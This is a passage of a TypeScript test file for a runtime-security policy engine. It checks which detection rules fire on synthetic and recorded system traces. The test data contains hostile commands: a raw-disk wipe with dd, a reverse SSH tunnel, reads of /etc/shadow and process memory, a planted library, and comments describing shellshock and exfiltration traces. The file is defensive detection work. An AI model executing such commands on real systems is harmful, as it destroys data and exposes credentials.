    assert.ok(!fires('Security tool or audit disabled', pe({ exe: '/bin/systemctl', args: 'stop nginx' })));
    assert.ok(fires('Data destruction tool executed', pe({ exe: '/bin/dd', args: 'if=/dev/zero of=/dev/sda bs=1M' })));
    assert.ok(!fires('Data destruction tool executed', pe({ exe: '/bin/dd', args: 'if=/dev/zero of=/tmp/blob bs=1M count=1' })));
    assert.ok(fires('Tunneling tool executed', pe({ exe: '/usr/bin/ssh', args: '-fN -R 9000:localhost:22 x@203.0.113.9' })));
  });
});

// ---- distribution filter ------------------------------------------------------------------------

describe('policies/distribution/filter.yaml', () => {
  let dist: PolicySet;
  before(async () => {
    await initHashing();
    dist = loadPolicySet(DIST_FILE);
  });

  test('loads: filters plus telemetry rules, all supported, all low priority', () => {
    assert.ok(dist.filterCount >= 5, `${dist.filterCount} filters`);
    assert.ok(dist.rules.length >= 6);
    assert.deepEqual(
      dist.report.filter((r) => r.status !== 'supported').map((r) => r.name),
      [],
    );
    for (const r of dist.rules) {
      assert.equal(r.priority, 1, r.name);
      assert.ok(r.tags.includes('telemetry'), r.name);
    }
  });

  test('drops noise', () => {
    const drops: [string, FlatRecord][] = [
      ['thread clone', pe({ flags: O.CLONE, pid: 200, tid: 201 })],
      ['thread exit', pe({ flags: O.EXIT, pid: 200, tid: 202 })],
      ['library load', ff({ path: '/usr/lib/x86_64-linux-gnu/libc.so.6', flags: O.OPEN | O.READ_RECV | O.MMAP | O.CLOSE })],
      ['/proc read', read('/proc/meminfo')],
      ['/sys read', read('/sys/fs/cgroup/cpu.max')],
      ['/dev read', read('/dev/urandom')],
      ['pipe', ff({ path: 'pipe:[915930306]', restype: 'p', flags: O.WRITE_SEND | O.CLOSE, openFlags: 0 })],
      ['unix socket', ff({ path: '/var/run/nscd/socket', restype: 'u', flags: O.CONNECT | O.CLOSE, openFlags: 0 })],
      ['anonymous fd', ff({ path: '', restype: 'e', flags: O.CLOSE, openFlags: 0 })],
      ['the collector', write('/var/run/sysflow/trace.sf', { exe: '/usr/bin/sysporter' })],
      ['the processor', pe({ exe: '/usr/bin/node', args: '/opt/sfprocessor/dist/core/cli/sfprocessor.js -config pipeline.json' })],
      ['control-plane loopback', nf({ exe: '/usr/local/bin/etcd', sip: '127.0.0.1', dip: '127.0.0.1', dport: 2379 })],
    ];
    for (const [what, r] of drops) assert.ok(dist.dropped(r), `${what} should be dropped`);
  });

  test('keeps what matters', () => {
    const keeps: [string, FlatRecord][] = [
      ['process clone', pe({ flags: O.CLONE, pid: 200, tid: 200 })],
      ['write below /usr/lib', write('/usr/lib/libevil.so', { exe: '/bin/cp' })],
      ['/proc/<pid>/mem read', read('/proc/812/mem', { exe: '/usr/bin/python3' })],
      ['/etc/shadow read', read('/etc/shadow', { exe: '/bin/cat' })],
      ['remote etcd traffic', nf({ exe: '/usr/local/bin/etcd', sip: '10.0.0.1', dip: '10.0.0.2', dport: 2380 })],
    ];
    for (const [what, r] of keeps) assert.ok(!dist.dropped(r), `${what} should be kept`);
  });

  test('telemetry rules', () => {
    const cases: [string, FlatRecord][] = [
      ['Process executed', pe({ exe: '/usr/bin/id' })],
      ['Process user id changed', pe({ exe: '/usr/bin/sudo', flags: O.SETUID })],
      ['Process entered namespace', pe({ exe: '/usr/bin/nsenter', flags: O.SETNS })],
      ['File opened for writing', write('/home/alice/notes.txt')],
      ['File deleted', fe({ path: '/tmp/x', flags: O.UNLINK })],
      ['File renamed', fe({ path: '/tmp/a', newPath: '/tmp/b', flags: O.RENAME })],
      ['Link created', fe({ path: '/etc/hosts', newPath: '/tmp/h', flags: O.SYMLINK })],
      ['Directory created', fe({ path: '/tmp/d', flags: O.MKDIR })],
      ['Network connection created', nf({ flags: O.CONNECT | O.WRITE_SEND | O.CLOSE })],
      ['Network connection accepted', nf({ flags: O.ACCEPT | O.READ_RECV | O.CLOSE })],
    ];
    assert.deepEqual(cases.map(([n]) => n).sort(), dist.rules.map((r) => r.name).sort(), 'one case per telemetry rule');
    for (const [rule, r] of cases) assert.deepEqual(matched(dist, r), [rule]);
    assert.deepEqual(matched(dist, read('/home/alice/notes.txt')), [], 'a plain read is not telemetry');
  });
});

// ---- real traces ----------------------------------------------------------------------------------

const PIPELINE = (policies: string) => [
  { processor: 'sysflowreader', handler: 'flattener', in: 'sysflow sysflowchan', out: 'flat flattenerchan' },
  { processor: 'policyengine', in: 'flat flattenerchan', out: 'evt eventchan', mode: 'alert', policies },
  { processor: 'exporter', in: 'evt eventchan', export: 'memory', format: 'json' },
];

async function alertCounts(trace: string, policies: string): Promise<{ records: number; byRule: Record<string, number> }> {
  const { text } = await runPipeline(tracePath(trace), PIPELINE(policies));
  const byRule: Record<string, number> = {};
  let records = 0;
  for (const line of text.split('\n')) {
    if (line === '') continue;
    records++;
    const o = JSON.parse(line) as { policies?: { id: string }[] };
    for (const p of o.policies ?? []) byRule[p.id] = (byRule[p.id] ?? 0) + 1;
  }
  return { records, byRule };
}

/**
 * Expected alerts, checked by reading the traces with sysprint:
 * - shellshock.sf: apache2 → the CGI script `vulnerable` → /bin/bash -c cat /etc/passwd (a shell below
 *   a web server) → /bin/cat reading /etc/passwd (account discovery).
 * - k8s_small.sf: a Node.js service in a container runs `/bin/sh -c /sbin/ip route | awk …` three
 *   times (a shell child of an application runtime).
 * - httpd.sf, tcp.sf: an httpd serving a request, a local TCP client/server: nothing.
 * - mon.1531776712.sf (vulnerable-nodejs attack): node app.js runs `sh -c python cos-write.py …` and
 *   `sh -c /tmp/exfil.py -a` (8 shells below the runtime), /tmp/exfil.py is executed (11 exec records
 *   from /tmp, including the execve attempts along PATH) and runs `apt-get update` and
 *   `apt-get install -y python-pip` in the container (2).
 * - sf-collector/namespaces/setns.sf: `sudo nsenter --pid=/tmp/ns/pid -- /bin/bash` by uid 501: sudo's
 *   setuid calls to root (13 SETUID records with uid 0 under a uid-501 parent), the nsenter exec, and
 *   nsenter's setns.
 */
const TRACE_EXPECTATIONS: { trace: string; sharedOnly: boolean; alerts: Record<string, number> }[] = [
  { trace: 'sf-processor/shellshock.sf', sharedOnly: false, alerts: { 'Shell spawned by web server': 1, 'Account discovery below web server': 1 } },
  { trace: 'sf-processor/k8s_small.sf', sharedOnly: false, alerts: { 'Shell spawned by application runtime in container': 3 } },
  { trace: 'sf-processor/httpd.sf', sharedOnly: false, alerts: {} },
  { trace: 'sf-processor/tcp.sf', sharedOnly: false, alerts: {} },
  {
    trace: 'sf-processor/mon.1531776712.sf',
    sharedOnly: true,
    alerts: { 'Shell spawned by application runtime in container': 8, 'Execution from temporary directory': 11, 'Package manager executed in container': 2 },
  },
  {
    trace: 'sf-collector/namespaces/setns.sf',
    sharedOnly: true,
    alerts: { 'Privilege change to root with sudo or su': 13, 'nsenter executed': 1, 'Namespace changed by unexpected process': 1 },
  },
];

describe('policies/runtimeintegrity in alert mode over real traces', () => {
  for (const e of TRACE_EXPECTATIONS) {
    test(e.trace, { skip: e.sharedOnly && !HAVE_SHARED ? CORPUS_NOTE : false }, async (t) => {
      const { records, byRule } = await alertCounts(e.trace, RI_DIR);
      t.diagnostic(`${e.trace}: ${records} alert records ${JSON.stringify(byRule)}`);
      assert.deepEqual(byRule, e.alerts);
    });
  }

  test('the distribution filter runs over a trace in alert mode', async (t) => {
    const { records, byRule } = await alertCounts('sf-processor/shellshock.sf', DIST_FILE);
    t.diagnostic(`shellshock.sf with the distribution filter: ${records} records ${JSON.stringify(byRule)}`);
    assert.equal(byRule['Process executed'], 3, 'vulnerable, bash, cat');
    assert.ok(records > 0);
  });
});
